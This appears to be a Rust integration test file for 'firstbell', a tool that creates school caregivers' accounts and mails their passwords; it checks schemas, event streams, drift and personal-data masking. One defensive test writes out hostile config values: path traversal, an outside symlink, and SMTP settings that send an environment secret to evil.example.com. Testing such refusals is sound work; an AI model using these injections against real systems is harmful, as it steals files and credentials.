//! The faces for machines: JSON that keeps to its schema, the event stream, comments, drift; and what none of them shows.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::path::Path;

use serde_json::Value;

use crate::binary::{Project, Said};

/// The schema that the program itself prints; the committed one is the same.
fn schema(name: &str) -> jsonschema::Validator {
    let said = Project::empty().run(&["schema", name]);
    assert_eq!(said.code, 0, "{}", said.all());
    let committed = Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("schemas/{name}.schema.json"));
    assert_eq!(said.out, std::fs::read_to_string(committed).unwrap(), "`cargo run --example bless` writes it anew");
    jsonschema::validator_for(&serde_json::from_str(&said.out).unwrap()).unwrap()
}

fn keeps_to(schema: &jsonschema::Validator, text: &str) -> Value {
    let value: Value = serde_json::from_str(text).unwrap_or_else(|error| panic!("{error}: {text}"));
    let errors: Vec<String> =
        schema.iter_errors(&value).map(|error| format!("{}: {error}", error.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}\n{text}");
    value
}

fn done(said: Said) -> Said {
    assert_eq!(said.code, 0, "{}", said.all());
    said
}

#[test]
fn every_document_for_programs_keeps_to_its_schema() {
    let project = Project::example("quickstart");
    let file = project.path().join("plan.json");
    for personal in ["none", "masked", "full"] {
        let run = |args: &[&str]| done(project.run(&[args, &["--personal", personal]].concat())).out;
        keeps_to(&schema("plan"), &run(&["plan", "--format", "json"]));
        keeps_to(&schema("drift"), &run(&["drift", "--format", "json"]));
        let checked = keeps_to(&schema("check"), &run(&["check", "--format", "json"]));
        assert_eq!(checked["usable"], true);
        assert!(checked["to_mend"]["no-email"].as_u64().unwrap() > 0);
    }
    done(project.run(&["plan", "-o", file.to_str().unwrap()]));
    keeps_to(&schema("saved-plan"), &project.read("plan.json"));
    let unsaved = project.run(&["plan", "--format", "json"]).out;
    let unsaved: Value = serde_json::from_str(&unsaved).unwrap();
    assert!(!schema("saved-plan").is_valid(&unsaved), "a plan that was not saved is no saved one");
}

#[test]
fn mistakes_are_told_to_programs_with_their_places() {
    let project = Project::example("quickstart");
    project.edit("rollout.yaml", "after: [year-7]", "after: [year-77]");
    for args in [&["check", "--format", "json"][..], &["check", "--rollout-only", "--format", "json"]] {
        let said = project.run(args);
        assert_eq!(said.code, 65, "{}", said.all());
        let found = keeps_to(&schema("check"), &said.out);
        let problem = &found["diagnostics"][0];
        assert_eq!(found["usable"], false);
        for key in ["line", "column", "endLine", "endColumn"] {
            assert!(problem[key].as_u64().unwrap() > 0, "{problem}");
        }
        assert!(problem["message"].as_str().unwrap().contains("year-77"), "{problem}");
    }
}

fn events(project: &Project, name: &str) -> Vec<Value> {
    let schema = schema("events");
    project.read(name).lines().map(|line| keeps_to(&schema, line)).collect()
}

fn of<'e>(events: &'e [Value], kind: &str) -> Vec<&'e Value> {
    events.iter().filter(|event| event["type"] == kind).collect()
}

#[test]
fn the_event_stream_tells_an_apply_from_its_first_line_to_its_last() {
    let project = Project::example("quickstart");
    let file = project.path().join("events.jsonl");
    let into = ["--json-into", file.to_str().unwrap()];
    done(project.run(&[&["plan"][..], &into].concat()));
    let planned = events(&project, "events.jsonl");
    assert_eq!(planned.first().unwrap()["type"], "version");
    assert_eq!(of(&planned, "effect_intent").len(), 0);
    done(project.run(&[&["apply", "--auto-approve"][..], &into].concat()));
    let applied = events(&project, "events.jsonl");
    assert_eq!(of(&applied, "version").len(), 1, "a stream of ours is written anew");
    assert_eq!(of(&applied, "planned_change"), of(&planned, "planned_change"));
    assert!(!of(&applied, "guard").is_empty());
    let passwords = project.effects().iter().filter(|effect| effect["op"] == "set-password").count();
    let letters = project.letters().len();
    for kind in ["effect_intent", "effect_settled"] {
        let count = |effect: &str| of(&applied, kind).iter().filter(|event| event["effect"] == effect).count();
        assert_eq!((count("set-password"), count("send-letter")), (passwords, letters), "{kind}");
    }
    let last = applied.last().unwrap();
    assert_eq!((&last["type"], &last["exit"]), (&"summary".into(), &0.into()));
    assert_eq!(last["done"].as_u64().unwrap(), of(&applied, "progress").len() as u64);
    // Each intent stands before what became of it.
    let mut open = BTreeSet::new();
    for event in &applied {
        let key = (event["effect"].to_string(), event["caregiver"].to_string());
        match event["type"].as_str().unwrap() {
            "effect_intent" => assert!(open.insert(key)),
            "effect_settled" => assert!(open.remove(&key), "{event}"),
            _ => {}
        }
    }
    assert!(open.is_empty());
}

#[test]
fn an_event_file_that_can_not_be_written_is_refused_before_any_effect() {
    let project = Project::example("quickstart");
    let before = project.read("rollout.yaml");
    for (name, code) in [("no/such/folder/events", 1), ("rollout.yaml", 64), ("letters", 1)] {
        let path = project.path().join(name);
        let said = project.run(&["apply", "--auto-approve", "--json-into", path.to_str().unwrap()]);
        assert_eq!(said.code, code, "{}", said.all());
        assert!(said.err.contains("nothing was done") && said.err.contains(name), "{}", said.all());
    }
    assert!(project.letters().is_empty() && !project.path().join("state/firstbell.db").exists());
    assert_eq!(project.read("rollout.yaml"), before);
}

#[test]
fn a_stream_tells_why_nothing_was_done() {
    let project = Project::example("quickstart");
    project.edit("rollout.yaml", "after: [year-7]", "after: [year-77]");
    let file = project.path().join("events.jsonl");
    let said = project.run(&["plan", "--json-into", file.to_str().unwrap()]);
    assert_eq!(said.code, 65, "{}", said.all());
    let events = events(&project, "events.jsonl");
    assert_eq!(of(&events, "diagnostic")[0]["code"], "rollout::unknown-cohort");
    assert_eq!((&events.last().unwrap()["exit"], &events.last().unwrap()["plan"]), (&65.into(), &Value::Null));
}

#[test]
fn a_plan_is_a_comment_saved_or_not() {
    let project = Project::example("quickstart");
    let file = project.path().join("plan.json");
    let made = done(project.run(&["plan", "--format", "markdown", "--personal", "full", "-o", file.to_str().unwrap()]));
    let shown = done(project.run(&["show", "--format", "markdown", file.to_str().unwrap()]));
    for comment in [&made.out, &shown.out] {
        assert!(comment.starts_with("<!-- firstbell-plan -->\n### firstbell plan\n"), "{comment}");
        for part in ["| cohort |", "| `year-7` |", "| `no-email` |", "<details>", "Sends 21 emails"] {
            assert!(comment.contains(part), "{part}\n{comment}");
        }
    }
    let folder = project.path().to_str().unwrap().to_owned();
    assert!(!made.out.contains(&folder), "where the project lies is nobody's business: {}", made.out);
    assert!(shown.out.contains("Digest") && !made.out.contains("Digest"));
}

/// Changes the sandbox's accounts behind firstbell's back.
fn meddle(project: &Project, change: impl Fn(&mut Vec<Value>)) {
    let mut lms: Value = serde_json::from_str(&project.read("state/lms.json")).unwrap();
    change(lms["accounts"].as_array_mut().unwrap());
    project.write("state/lms.json", serde_json::to_string_pretty(&lms).unwrap());
}

#[test]
fn drift_is_what_somebody_else_did_and_repairs_nothing() {
    let project = Project::example("quickstart");
    for _ in 0..3 {
        done(project.run(&["apply", "--auto-approve"]));
    }
    let before: Value = serde_json::from_str(&done(project.run(&["drift", "--format", "json"])).out).unwrap();
    assert_eq!(before["summary"].get("changed"), None, "what we did ourselves is no drift: {before}");
    meddle(&project, |accounts| {
        let of = |accounts: &[Value], id: &str| accounts.iter().position(|one| one["caregiver"] == id).unwrap();
        let at = of(accounts, "C1010");
        accounts.remove(at);
        let at = of(accounts, "C1001");
        accounts[at]["email"] = "elsewhere@example.com".into();
        let at = of(accounts, "C1005");
        accounts[at]["disabled"] = true.into();
    });
    let files = ["state/lms.json", "rollout.lock"].map(|name| project.read(name));
    let said = project.run(&["drift", "--detailed-exitcode", "--personal", "full"]);
    assert_eq!(said.code, 2, "{}", said.all());
    for part in ["vanished (1)", "C1010", "-> elsewhere@example.com", "disabled (2)", "C1005"] {
        assert!(said.out.contains(part), "{part}\n{}", said.all());
    }
    let shown = done(project.run(&["drift"])).out;
    assert!(shown.contains("-> …@example.com") && !shown.contains("elsewhere"), "{shown}");
    let comment = done(project.run(&["drift", "--format", "markdown"])).out;
    assert!(comment.contains("| `vanished` | 1 |") && !comment.contains("elsewhere"), "{comment}");
    assert_eq!(files, ["state/lms.json", "rollout.lock"].map(|name| project.read(name)), "nothing is touched");
}

#[test]
fn an_activation_of_another_state_is_drift_and_exit_5() {
    let project = Project::example("quickstart");
    done(project.run(&["apply", "--auto-approve"]));
    meddle(&project, |accounts| {
        let one = accounts.iter_mut().find(|one| one["caregiver"] == "C1003").unwrap();
        one["marker"] = format!("{:032x}", 7).into();
    });
    let said = project.run(&["drift"]);
    assert_eq!(said.code, 5, "{}", said.all());
    assert!(said.out.contains("foreign-marker (1)") && said.out.contains("C1003"), "{}", said.all());
}

#[test]
fn completions_and_manual_pages_know_every_command() {
    let project = Project::empty();
    for shell in ["bash", "zsh", "fish"] {
        let said = done(project.run(&["completions", shell]));
        for command in ["plan", "drift", "resolve", "--detailed-exitcode", "--json-into"] {
            let word = if shell == "fish" { command.trim_start_matches("--") } else { command };
            assert!(said.out.contains(word), "{shell}: {command}");
        }
    }
    assert!(done(project.run(&["man"])).out.contains(".TH firstbell 1"));
    let folder = project.path().join("man1");
    done(project.run(&["man", folder.to_str().unwrap()]));
    let page = project.read("man1/firstbell-state-show.1");
    assert!(page.contains(".TH firstbell-state-show 1"), "{page}");
    assert!(project.read("man1/firstbell-plan.1").contains("firstbell plan"));
}

/// Names, addresses and (after an apply) passwords of everybody in an example.
fn personal_data(project: &Project) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    let rosters = std::fs::read_dir(project.path().join("roster")).unwrap();
    for file in rosters.map(|entry| entry.unwrap().path()) {
        let text = String::from_utf8_lossy(&std::fs::read(file).unwrap()).into_owned();
        let mut rows = text.trim_start_matches('\u{feff}').lines();
        let heading = rows.next().unwrap();
        let separator = [';', '\t', ','].into_iter().find(|one| heading.contains(*one)).unwrap();
        let columns: Vec<String> = heading.split(separator).map(|name| name.trim().to_lowercase()).collect();
        for row in rows {
            let cells: Vec<&str> = row.split(separator).map(|cell| cell.trim().trim_matches('"')).collect();
            let cell =
                |wanted: &str| columns.iter().position(|name| name == wanted).and_then(|at| cells.get(at).copied());
            for (first, last) in [
                ("cgfirst", "cglast"),
                ("stufirst", "stulast"),
                ("firstname", "lastname"),
                ("studentfirstname", "studentlastname"),
            ] {
                if let (Some(first), Some(last)) = (cell(first), cell(last)) {
                    found.insert(format!("{first} {last}"));
                }
            }
            found.extend(cells.iter().filter(|cell| cell.contains('@')).map(|cell| (*cell).to_owned()));
        }
    }
    let lms: Value = serde_json::from_str(&project.read("state/lms.json")).unwrap();
    for account in lms["accounts"].as_array().unwrap() {
        for key in ["email", "username"] {
            found.extend(account[key].as_str().filter(|text| text.len() > 4).map(str::to_owned));
        }
    }
    for letter in project.letters() {
        let message = mail_parser::MessageParser::default().parse(&letter).unwrap();
        let body = message.body_text(0).unwrap();
        let after = body.lines().skip_while(|line| !["Password:", "Kupuhipa:"].contains(&line.trim())).nth(1);
        found.insert(after.unwrap_or_else(|| panic!("no password in {body}")).trim().to_owned());
    }
    found.retain(|text| text.trim().len() > 4 && !text.starts_with("office@"));
    found
}

#[test]
fn no_output_of_any_command_holds_personal_data_where_ci_is_set() {
    for example in ["quickstart", "kowhai-college"] {
        let project = Project::example(example);
        let at = |name: &str| project.path().join(name).to_str().unwrap().to_owned();
        let (plan, events, fixes) = (at("plan.json"), at("events.jsonl"), at("fixes.csv"));
        let (roster, outbox, export) = (at("roster/caregivers.csv"), at("outbox"), at("state.jsonl"));
        let mut said = String::new();
        let mut run = |args: &[&str]| {
            let output = project.command(args).env("CI", "true").output().unwrap();
            let text =
                format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
            assert!(
                output.status.code().is_some_and(|code| [0, 1, 2, 3, 5, 8, 64, 65].contains(&code)),
                "{args:?}: {text}"
            );
            write!(said, "\n$ {}\n{text}", args.join(" ")).unwrap();
        };
        let looking: [&[&str]; 30] = [
            &["check"],
            &["check", "--format", "json"],
            &["check", "--rollout-only"],
            &["check", "--fixes", &fixes],
            &["plan", "--json-into", &events, "-o", &plan],
            &["plan", "--format", "json"],
            &["plan", "--format", "markdown"],
            &["plan", "--summary"],
            &["plan", "--format", "html"],
            &["show", "--format", "html", &plan],
            &["plan", "--caregiver", "C1001"],
            &["show", &plan],
            &["show", "--format", "markdown", &plan],
            &["show", "--format", "json", &plan],
            &["status"],
            &["explain", "C1001"],
            &["drift"],
            &["drift", "--format", "json"],
            &["drift", "--format", "markdown"],
            &["state", "list"],
            &["state", "secrets"],
            &["state", "migrate", "--to", "sqlite"],
            &["state", "repair"],
            &["roster", "show"],
            &["roster", "show", "--format", "json"],
            &["roster", "diff", &roster, &roster],
            &["lms", "check"],
            &["mail", "test", "--to", "me@example.nz"],
            &["handovers"],
            &["bounces", &outbox],
        ];
        for args in looking {
            run(args);
        }
        run(&["adopt", "C1004", "--because", "by hand"]);
        run(&["apply", "--auto-approve", "--json-into", &events]);
        run(&["resolve", "C1001", "--reset", "done", "--evidence", "the log"]);
        run(&["state", "show"]);
        run(&["state", "verify"]);
        run(&["state", "rekey", "--because", "T-160"]);
        run(&["state", "export", &export]);
        run(&["state", "import", &export]);
        run(&["state", "move", "C1001", "C9001", "--because", "T-140"]);
        run(&["state", "forget", "C1002", "--because", "T-150"]);
        run(&["confirm", "0001", "--imported"]);
        run(&["letters", "--cohort", "year-7"]);
        for args in looking.iter().filter(|args| args[0] != "show") {
            run(args);
        }
        assert!(!project.letters().is_empty(), "{said}");
        every_command_was_run(&said);
        for file in ["plan.json", "events.jsonl", "rollout.lock"] {
            write!(said, "\n# {file}\n{}", project.read(file)).unwrap();
        }
        let personal = personal_data(&project);
        assert!(personal.len() > 150, "{}", personal.len());
        let full = project.run(&["plan", "--personal", "full"]).out;
        assert!(personal.iter().any(|text| full.contains(text)), "what is looked for is what would be shown: {full}");
        let leaks: Vec<&String> = personal.iter().filter(|text| said.contains(*text)).collect();
        let line = |text: &str| said.lines().find(|line| line.contains(text)).unwrap_or_default().to_owned();
        let shown: Vec<(&String, String)> = leaks.iter().take(10).map(|text| (*text, line(text))).collect();
        assert!(leaks.is_empty(), "{example}: {} leaks: {shown:#?}", leaks.len());
    }
}

/// Those that can't show anybody: no project's people are in what they do, or a person asked for just that page.
const NAMES_NOBODY: [(&str, &str); 8] = [
    ("init", "begins a project"),
    ("completions", "prints the program's own words"),
    ("man", "prints the program's own words"),
    ("schema", "prints the program's own words"),
    ("selftest", "plays with people of its own"),
    ("sandbox sign-in", "tries a password that somebody types"),
    ("preview", "shows a letter to somebody made up"),
    ("apply", "run with a flag of its own above"),
];

fn every_command_was_run(said: &str) {
    let page = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/commands.md")).unwrap();
    let commands: Vec<&str> = page.lines().filter_map(|line| line.strip_prefix("## firstbell ")).collect();
    assert!(commands.len() > 25, "{commands:?}");
    let is_group = |name: &str| commands.iter().any(|other| other.starts_with(&format!("{name} ")));
    let was_run = |name: &str| said.contains(&format!("\n$ {name}\n")) || said.contains(&format!("\n$ {name} "));
    let exempt = |name: &str| NAMES_NOBODY.iter().any(|(one, _)| *one == name);
    let missing: Vec<_> = commands.iter().filter(|name| !is_group(name) && !was_run(name) && !exempt(name)).collect();
    assert!(missing.is_empty(), "never asked what they show: {missing:?}");
}

#[test]
fn reasons_of_the_rollout_are_not_echoed_where_nothing_personal_may_be_shown() {
    let project = Project::example("quickstart");
    let rollout = project.read("rollout.yaml")
        + "override: [{guard: resets, value: 20, because: secret-reason, expires: 2020-01-01}]\n";
    project.write("rollout.yaml", rollout);
    let said = project.run(&["plan"]);
    assert_eq!(said.code, 65, "{}", said.all());
    assert!(said.err.contains("rollout::override-expired") && !said.all().contains("secret-reason"), "{}", said.all());
    let said = project.run(&["plan", "--personal", "full"]);
    assert!(said.err.contains("secret-reason"), "{}", said.all());
}

/// What a pull request can write, it can't use to steal: each line is refused before anything is read or sent.
#[test]
fn a_pull_request_can_not_steal() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.csv"), "CaregiverID,Email\nX1,a@example.nz\n").unwrap();
    let absolute = format!("path: {}/secret.csv", outside.path().display());
    let thefts: [(&str, &str, &str); 4] = [
        ("path: roster/caregivers.csv", "path: ../../secret.csv", "rollout::"),
        ("path: roster/caregivers.csv", &absolute, "rollout::"),
        (
            "  transport: outbox",
            "  transport: outbox\n  smtp: {host: evil.example.com, password: {env: HOME}}",
            "FIRSTBELL_",
        ),
        (
            "  transport: outbox",
            "  transport: outbox\n  smtp: {host: evil.example.com, password: {env: FIRSTBELL_KEY}}",
            "FIRSTBELL_KEY",
        ),
    ];
    for (from, to, expected) in thefts {
        let project = Project::example("quickstart");
        project.edit("rollout.yaml", from, to);
        for args in [&["check", "--rollout-only"][..], &["plan"], &["apply", "--auto-approve"]] {
            let said = project.run(args);
            assert_eq!(said.code, 65, "{to}: {}", said.all());
            assert!(said.err.contains(expected), "{to}: {}", said.all());
        }
        assert!(project.letters().is_empty());
    }
    // A link inside the project leads out of it all the same.
    let project = Project::example("quickstart");
    std::fs::remove_file(project.path().join("roster/caregivers.csv")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.csv"), project.path().join("roster/caregivers.csv"))
        .unwrap();
    let said = project.run(&["plan"]);
    assert_eq!(said.code, 65, "{}", said.all());
}

/// A new password would not help: the help desk must hear what would.
#[test]
fn a_page_about_somebody_who_is_shut_out_says_why() {
    let project = Project::example("quickstart");
    assert_eq!(project.run(&["apply", "--auto-approve"]).code, 0);
    let accounts = project.read("state/lms.json");
    let mut lms: serde_json::Value = serde_json::from_str(&accounts).unwrap();
    let account = lms["accounts"].as_array_mut().unwrap().iter_mut().find(|one| one["caregiver"] == "C1001").unwrap();
    account["disabled"] = true.into();
    project.write("state/lms.json", lms.to_string());
    let disabled = project.run(&["explain", "C1001"]);
    assert!(disabled.out.contains("they can't sign in: their account is disabled in the LMS"), "{}", disabled.all());
    let account = lms["accounts"].as_array_mut().unwrap().iter_mut().find(|one| one["caregiver"] == "C1001").unwrap();
    account["caregiver"] = "C9999".into();
    project.write("state/lms.json", lms.to_string());
    let gone = project.run(&["explain", "C1001"]);
    assert!(gone.out.contains("they can't sign in: the LMS has no account of theirs"), "{}", gone.all());
    assert!(!gone.out.contains("reissue"), "{}", gone.all());
}
